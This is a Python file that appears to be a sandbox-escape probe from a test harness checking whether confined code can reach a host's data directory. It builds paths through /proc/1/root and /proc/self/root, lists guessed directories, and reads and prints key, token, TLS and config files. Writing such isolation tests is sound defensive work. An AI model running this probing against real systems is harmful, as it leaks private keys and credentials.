"""The Python payload: escape read-data-dir."""

import os

from farmd.intake.escapes.given import DATA_DIR, KEY_FILE
from farmd.intake.escapes.python.prelude import left, read, say

# -- the payload: the box is given this file from the line below on --

GUESSES = ('/root/farm-data', '/var/lib/farm', '/var/lib/farmd', '/srv/farm', '/srv/farm-data', '/opt/farm-data',
           '/data', '/farm-data', '/home/farm/farm-data', 'farm-data', '../farm-data', '../../farm-data')
SECRETS = (KEY_FILE, 'farmd.json', 'farm.toml', 'farm.db', 'token', 'tls.key', 'node.key')


def candidates():
    dirs = ([DATA_DIR] if DATA_DIR else []) + list(GUESSES) + [os.path.expanduser('~/farm-data')]
    out = []
    for d in dirs:
        out.append(d)
        if d.startswith('/'):
            out += ['/proc/1/root' + d, '/proc/self/root' + d, '/proc/1/cwd/..' + d]
        else:
            out += ['/proc/1/cwd/' + d, '/proc/self/cwd/../' + d]
    return out


def main():
    for d in candidates():
        if left() <= 0:
            return
        try:
            names = os.listdir(d)
            say('listed', d, sorted(names)[:100])
        except OSError as exc:
            say('cannot list', d, type(exc).__name__)
            names = []
        wanted = set(SECRETS) | {n for n in names if n.endswith(('.key', '.pem', '.json', '.toml', '.token'))}
        for name in sorted(wanted):
            path = os.path.join(d, name)
            data = read(path, 65536)
            if data is not None:
                say('read', path, data.hex(), repr(data[:2000]))
